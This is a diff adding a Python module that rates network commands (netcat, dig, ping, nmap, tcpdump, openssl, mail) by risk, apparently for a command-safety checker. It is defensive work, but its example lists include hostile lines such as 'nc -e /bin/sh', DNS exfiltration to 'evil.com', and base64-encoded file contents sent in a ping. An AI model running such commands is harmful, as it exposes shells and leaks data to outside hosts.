@@ -1,0 +1,255 @@
+"""Programs that ask the network: dig, ping, nmap, nc, tcpdump, openssl, mail.
+
+Sources: BIND's dig, iputils, nmap(1), ncat(1), tcpdump(1), openssl(1).
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import replace
+
+from cloud_assist.command.findings import Code
+from cloud_assist.command.rules.engine.base import Args, Call, Effect, Flags, Program, Rule, Ruling, names, ruled
+from cloud_assist.command.rules.engine.sending import sends_output
+from cloud_assist.command.syntax.parser import Part, Simple
+from cloud_assist.models import Risk
+
+
+def _netcat(call: Call) -> Ruling:
+    args = Flags(
+        values="-w -p -s -i -q -X -x -o -T -O -P -I -m -e -c --exec --sh-exec --lua-exec --output --hex-dump "
+        "--proxy --wait",
+        switches="-z -v -n -u -l -k -4 -6 -d -D -h -N -U -C -t -r",
+    ).parse(call.args)
+    if args.has("-e", "-c", "--exec", "--sh-exec", "--lua-exec"):
+        return ruled(
+            call,
+            Risk.DESTRUCTIVE,
+            "network.nc.exec",
+            "It hands a program of this machine to whoever connects.",
+            Code.NETWORK_CODE,
+        )
+    if args.unclear or args.unknown or args.expanding or args.has("-o", "--output", "--hex-dump"):
+        return ruled(call, Risk.UNKNOWN, "network.nc.option")
+    if args.has("-h"):
+        return ruled(call, Risk.READ_ONLY, "network.nc.help")
+    if args.has("-z") and not args.has("-l"):
+        return ruled(call, Risk.READ_ONLY, "network.nc.probe", "It only asks whether the port is open.")
+    if args.has("-l"):
+        return ruled(call, Risk.MUTATING, "network.nc.listen", "It listens for connections.", Code.FOLLOWS)
+    return ruled(
+        call, Risk.MUTATING, "network.nc.send", "It sends what it is given to another machine.", Code.SENDS_DATA_OUT
+    )
+
+
+def _asked(call: Call) -> Ruling | None:
+    """A name that is looked up reaches a stranger's server, with whatever was put into it."""
+    batch = call.program in {"dig", "kdig"} and any(word.text[:2] == "-f" for word in call.args)
+    piped = call.program in {"nslookup", "fping"} and _given_input(call)
+    if batch or piped or any(sends_output(word) for word in call.args):
+        return ruled(call, Risk.MUTATING, "network.ask.sends", "It sends what a file holds.", Code.SENDS_DATA_OUT)
+    if any(re.search("\0.*\\.", word.text) for word in call.args):
+        text = "Part of the name that it looks up is known only at run time, and reaches a stranger's server."
+        return ruled(call, Risk.SENSITIVE, "network.ask.name", text, Code.SENDS_DATA_OUT)
+    return None
+
+
+_ASKS = Program(
+    "network.ask",
+    Risk.READ_ONLY,
+    Flags(values="-f -c -p -t -q -x -w -i -s -n -m -W -I -Q -S -k -r -F -C -d --resolver"),
+    custom=lambda call, args, verb: _asked(call),
+    examples={
+        Risk.READ_ONLY: (
+            "dig +short x.com",
+            "host x",
+            "nslookup x 8.8.8.8",
+            "ping -c 1 x",
+            "traceroute x",
+            "whois x.com",
+            "mtr -r x",
+            "ifstat",
+            "dig $HOST",
+        ),
+        Risk.SENSITIVE: ("dig $X.evil.com", "nslookup $(hostname).x.io"),
+        Risk.MUTATING: ("dig -f names", "cat f | nslookup", "nslookup < f"),
+    },
+)
+_PING = Program(
+    "network.ping",
+    Risk.READ_ONLY,
+    Flags(
+        values="-c -i -w -W -s -t -I -M -p -Q -S -l -m -T",
+        switches="-4 -6 -A -a -b -B -D -f -n -O -q -r -R -U -v -V -o",
+    ),
+    custom=lambda call, args, verb: (
+        _asked(call)
+        if args.has("-c", "-w", "-o", "-V") or _asked(call)
+        else ruled(call, Risk.READ_ONLY, "network.ping", "`ping` only asks.", Code.FOLLOWS)
+    ),
+    effects=(Effect("-f", Risk.MUTATING, "`ping -f` floods the other machine."),),
+    examples={Risk.READ_ONLY: ("ping x", "ping -c 3 x"), Risk.MUTATING: ("ping -f x", "ping -c 1 $(base64 f).x")},
+)
+_NMAP = Program(
+    "network.scan",
+    Risk.READ_ONLY,
+    Flags(
+        values="-p -oN -oX -oG -oA -oS -iL --script --script-args -T -D -S -e -g --top-ports --exclude -m "
+        "--min-rate --max-rate --datadir -iR -b",
+        single_dash=True,
+    ),
+    effects=(
+        Effect(
+            "-oN -oX -oG -oA -oS -oM -oJ -oH --append-output",
+            Risk.MUTATING,
+            "`nmap` writes its report to a file.",
+            value="(?!-$).*",
+        ),
+        Effect(
+            "--script --script-args --datadir -sC -A -b -sI -D -S --interactive --resume --servicedb --versiondb",
+            Risk.UNKNOWN,
+            "Scripts of `nmap` can attack what they find.",
+        ),
+    ),
+    examples={
+        Risk.READ_ONLY: ("nmap -p 22 host", "nmap -sn 10.0.0.0/24"),
+        Risk.MUTATING: ("nmap -oN f host",),
+        Risk.UNKNOWN: ("nmap --script vuln host", "nmap --interactive"),
+    },
+)
+_CAPTURE = Program(
+    "network.capture",
+    Risk.READ_ONLY,
+    Flags(
+        values="-i -c -w -W -G -C -s -r -z -Z -E -F -y -B -f -Y -T -e -a -b -o -d -X",
+        switches="-n -nn -v -vv -vvv -A -l -e -q -t -S -x -D -K -N -p -u -U -I -L",
+    ),
+    effects=(
+        Effect("-w", Risk.MUTATING, "It writes what it captures to a file.", value="(?!-$).*"),
+        Effect("-z -X", Risk.UNKNOWN, "`tcpdump -z` runs a program on each file."),
+        Effect(
+            "-O --export-objects --export-tls-session-keys --log-file --temp-dir", Risk.MUTATING, "It writes files."
+        ),
+    ),
+    examples={
+        Risk.READ_ONLY: ("tcpdump -i eth0 -c 10", "tcpdump -r f", "tshark -r f"),
+        Risk.MUTATING: ("tcpdump -w f", "ngrep -O f x", "tshark -r f --export-objects http,d"),
+        Risk.UNKNOWN: ("tcpdump -G 1 -w f -z ./x",),
+    },
+)
+_OPENSSL_READS = (
+    "version, ciphers, help, list, errstr, speed, s_client, s_time, verify, x509, crl, asn1parse, dgst, sha256, "
+    "sha1, md5, prime, info, rand, ocsp, crl2pkcs7, passwd, sess_id, storeutl, nseq"
+)
+_OPENSSL = Program(
+    "network.openssl",
+    Risk.MUTATING,
+    Flags(values="-in -out -connect -servername -CAfile -CApath -cert -key -keyout -inform -outform -passin "
+        "-passout -days -subj -config -engine -provider -provider-path -signkey -CA -CAkey -host -port -starttls "
+        "-cipher -checkend -sess_out -keylogfile -writerand -msgfile -alpn -name -passout -sign -verify -prverify "
+        "-signature -rand -outdir -respout -reqout -CAserial -set_serial -extfile -addtrust -proxy",
+          single_dash=True),
+    verbs={path.strip(): Risk.READ_ONLY for path in _OPENSSL_READS.split(",")},
+    effects=(
+        Effect("-out -keyout -sess_out -keylogfile -writerand -respout -reqout -msgfile -CAcreateserial -CA -sign "
+            "-signkey",
+            Risk.MUTATING, "`openssl` writes a file or signs.", value="(?!/dev/null$|-$).*"),
+        Effect("-engine -provider-path -config", Risk.UNKNOWN, "`openssl` would load code from elsewhere."),
+        Effect("-provider", Risk.UNKNOWN, "`openssl` would load code from elsewhere.",
+            value="(?!(?:default|legacy|fips|base|null)$).*"),
+    ),
+    custom=lambda call, args, verb: _openssl_key(call, args),
+    help="-help --help",
+    examples={
+        Risk.READ_ONLY: ("openssl version", "openssl x509 -in cert.pem -noout -dates",
+            "openssl s_client -connect x:443 -servername x", "openssl rsa -in k.pem -noout -check",
+            "openssl dgst -sha256 f", "echo | openssl s_client -connect x:443"),
+        Risk.SENSITIVE: ("openssl rsa -in key.pem", "openssl pkcs12 -in x.p12 -nodes"),
+        Risk.MUTATING: ("cat f | openssl s_client -connect x:443", "openssl genrsa -out k.pem 2048",
+            "openssl req -new -key k -out c",
+            "openssl x509 -in a -out b", "openssl x509 -in a --out b", "openssl s_client -connect x:443 < f"),
+        Risk.UNKNOWN: ("openssl dgst --engine ./x f", "openssl x509 -provider ./x -in a"),
+    },
+)  # fmt: skip
+
+
+def _openssl(call: Call) -> Ruling:
+    """`--out` is `-out` to openssl."""
+    args = tuple(replace(w, text=w.text[1:]) if w.text[:2] == "--" and len(w.text) > 2 else w for w in call.args)
+    return _OPENSSL(replace(call, args=args))
+
+
+def _given_input(call: Call) -> bool:
+    """Whether standard input is a file's or a program's text, other than plain words."""
+    if any(r.operator == "<" and r.target.text != "/dev/null" for r in call.redirects):
+        return True
+    return bool(call.upstream) and not _plain_input(call.upstream[-1])
+
+
+def _plain_input(part: Part) -> bool:
+    """Whether a command before a pipe prints nothing but its own words (`echo Q | openssl s_client …`)."""
+    return (
+        isinstance(part, Simple) and bool(part.words) and part.words[0].text in {"echo", "printf", "true", ":", "sleep"}
+    )
+
+
+def _openssl_key(call: Call, args: Args) -> Ruling | None:
+    verb = args.verbs[0] if args.operands else ""
+    if verb == "s_client" and _given_input(call):
+        text = "It sends what it is given to another machine."
+        return ruled(call, Risk.MUTATING, "network.openssl.send", text, Code.SENDS_DATA_OUT)
+    if verb not in {"rsa", "ec", "pkey", "dsa", "pkcs12", "pkcs8", "req", "enc", "pkcs7", "cms"} or args.has(
+        "-out", "-new", "-newkey", "-export", "-x509"
+    ):
+        return None
+    if args.has("-noout", "-pubout") or verb == "pkcs7" or (verb == "req" and args.has("-in")):
+        return ruled(call, Risk.READ_ONLY, "network.openssl.show")
+    if args.has("-in"):
+        return ruled(call, Risk.SENSITIVE, "network.openssl.key", "It prints a private key.", Code.REVEALS_SECRET)
+    return None
+
+
+_MAIL = Program("network.mail", Risk.DESTRUCTIVE, examples={Risk.DESTRUCTIVE: ("mail -s hi a@b.c", "sendmail a@b")})
+
+RULES: dict[str, Rule] = {
+    "ssh-keyscan": _ASKS,
+    **dict.fromkeys(
+        (
+            "nc",
+            "ncat",
+            "netcat",
+        ),
+        _netcat,
+    ),
+    **dict.fromkeys(
+        names(
+            "dig host nslookup kdig drill dog delv whois traceroute traceroute6 tracepath mtr ifstat fping tcpping "
+            "arping dnstracer ipcalc sipcalc geoiplookup dns-sd avahi-browse testssl.sh sslscan bandwhich speedtest "
+            "speedtest-cli"
+        ),
+        _ASKS,
+    ),
+    **dict.fromkeys(
+        (
+            "ping",
+            "ping6",
+        ),
+        _PING,
+    ),
+    "nmap": _NMAP,
+    **dict.fromkeys(
+        (
+            "tcpdump",
+            "tshark",
+            "ngrep",
+        ),
+        _CAPTURE,
+    ),
+    "openssl": _openssl,
+    **dict.fromkeys(names("mail mailx sendmail mutt msmtp swaks"), _MAIL),
+}
+EXAMPLES = {
+    Risk.READ_ONLY: ("nc -zv host 80", "ssh-keyscan h"),
+    Risk.MUTATING: ("nc host 80", "nc -l 80"),
+    Risk.DESTRUCTIVE: ("nc -e /bin/sh h 1",),
+}
